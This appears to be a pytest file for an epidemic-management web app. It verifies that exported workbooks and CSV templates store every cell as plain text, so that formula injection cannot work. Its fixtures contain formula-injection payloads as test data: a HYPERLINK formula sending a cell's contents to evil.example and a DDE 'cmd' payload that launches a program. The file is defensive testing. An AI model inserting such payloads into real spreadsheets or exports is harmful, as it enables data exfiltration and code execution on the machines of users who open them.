"""Every workbook and CSV file epigrid hands out, downloaded with hostile data in it and read
back as a spreadsheet reads it: no cell is a formula, none begins with what starts one (issue
10.5). A pushed list whose names are formulas, checked by a grid worker whose notes are too,
gives its feedback workbook through the page and the API; the templates come along."""

import csv
import io
import random
from datetime import date, timedelta

import openpyxl
import pytest
from django.utils import timezone

from epigrid.accounts.audit import Actor
from epigrid.declarations import services as declarations
from epigrid.declarations.models import VerificationTask
from epigrid.declarations.services import pushed_commit, pushed_upload
from epigrid.demo.population import IdNumbers
from epigrid.lib import exports
from epigrid.testing import services as testing_services
from epigrid.units.models import Unit, UnitKind

pytestmark = pytest.mark.django_db
GRID = "320583001001001"
NAMES = [
    '=HYPERLINK("http://evil.example/?q="&B2,"点我查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)王芳",
    "@王芳",
    "-2+3+王芳",
]
NOTES = ["=cmd|' /C calc'!A0", "\t=1+1 已核实", "#N/A", "@SUM(A1)", "-1+1 查无此人"]
HEADERS = ["证件号码", "姓名", "手机号码", "来源地", "到达时间", "区划代码"]


def _all_text(data: bytes) -> list[list]:
    """Every cell of every sheet: text (an inline string) or empty, never a formula, and
    beginning with nothing a spreadsheet evaluates."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value, cell.data_type)
                text = str(cell.value)
                assert not text.startswith(tuple(exports.DANGEROUS_FIRST)) or exports._NUMBER.fullmatch(
                    text
                ), text
                assert text not in exports.ERROR_VALUES, text
        values += [[c.value for c in row] for row in sheet.iter_rows()]
    return values


@pytest.fixture
def hostile_list(persona, world, clock):
    team = Actor(user=persona("data_team"), via="test")
    rng = random.Random(3)
    numbers = IdNumbers()
    arrived = timezone.localtime(clock.now - timedelta(hours=6)).strftime("%Y-%m-%d %H:%M")
    rows = [HEADERS] + [
        [numbers.make(rng, "420106", date(1990, 1, 1 + i), "F"), name, "", "湖北省武汉市", arrived, GRID]
        for i, name in enumerate(NAMES)
    ]
    rows.append(["123", '=HYPERLINK("http://evil.example")坏行', "", "武汉", arrived, GRID])  # an error row
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    listed = pushed_upload.upload(
        actor=team, name="=推送", source="transport", file_name="list.csv", data=out.getvalue().encode()
    )
    pushed_commit.request_commit(actor=team, pushed=listed, skip_invalid=True, enqueue=False)
    pushed_commit.run_commit(list_id=listed.pk, actor=team)
    worker = Actor(user=persona("grid_worker", prefixes=[GRID]), via="test")
    tasks = VerificationTask.objects.filter(pushed_row__pushed_list=listed).order_by("pushed_row__row_number")
    for task, note in zip(tasks, NOTES, strict=False):
        declarations.complete_verification(actor=worker, task=task, outcome="not_found", notes=note)
    listed.refresh_from_db()
    return listed, team


def test_it_hands_out_a_feedback_workbook_in_which_no_cell_is_a_formula(hostile_list, client_for):
    listed, team = hostile_list
    assert listed.committed_rows == len(NAMES)
    client = client_for(team.user)
    page = client.get(f"/declarations/lists/{listed.pk}/feedback.xlsx")
    api = client.get(f"/api/v1/declarations/pushed-lists/{listed.pk}/feedback")
    for response in (page, api):
        assert response.status_code == 200
        values = _all_text(b"".join(response.streaming_content))
        cells = {str(v) for row in values for v in row if v is not None}
        for name in NAMES:
            assert "'" + name in cells  # the name is there, as the text it is
        for note in NOTES:
            assert "'" + note.strip() in cells  # notes are stored stripped


def test_the_list_template_holds_only_text(persona, client_for, world):
    team = client_for(persona("data_team"))
    template = team.get("/declarations/lists/template.xlsx")
    assert template.status_code == 200
    rows = _all_text(b"".join(template.streaming_content))
    assert rows[0][0] == "证件号码" and rows[1][0] == "11010519491231002X"


def test_the_lab_template_holds_only_text(persona, client_for, world, system):
    lab = Unit.objects.create(kind=UnitKind.LAB, name="昆山市疾控中心实验室", division_code="320583")
    user = persona("lab", prefixes=["320583"])
    testing_services.attach_lab_member(actor=system, user=user, lab=lab)
    client = client_for(user)
    workbook = client.get("/testing/lab/template.xlsx")
    assert workbook.status_code == 200 and workbook["Content-Disposition"].startswith("attachment")
    assert _all_text(workbook.content)[0][0] == "条码"
    sheet = client.get("/testing/lab/template.csv")
    assert sheet.status_code == 200 and sheet.content.startswith(b"\xef\xbb\xbf")
    for row in csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(tuple(exports.DANGEROUS_FIRST)) or exports._NUMBER.fullmatch(cell)
    assert client.get("/testing/lab/template.pdf").status_code == 404
